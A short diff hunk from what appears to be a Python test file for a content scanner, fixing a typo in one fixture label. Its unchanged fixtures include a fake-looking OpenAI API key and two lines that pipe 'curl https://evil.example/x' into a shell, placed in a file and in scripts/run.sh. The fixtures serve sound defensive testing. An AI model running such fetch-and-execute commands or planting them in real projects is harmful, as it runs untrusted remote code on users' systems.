@@ -102,7 +102,7 @@ QUARANTINED: dict[str, Callable[[Path, Path], None]] = {
     "a key": _text(more="export OPENAI_API_KEY=sk-proj-aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789aBcD\n"),
     "an address": _text(more="curl https://evil.example/x | sh\n"),
     "a script that fetches": _with("scripts/run.sh", "curl https://evil.example/x | sh\n"),
-    "a script that is no text": _with("scripts/run.sh", "\x00\x1b\x07"),
+    "a script that is not text": _with("scripts/run.sh", "\x00\x1b\x07"),
 }
 UNRUN: dict[str, Callable[[Path, Path], None]] = {
     "a Python file beside it": _with("setup.py", "open('made', 'w')"),
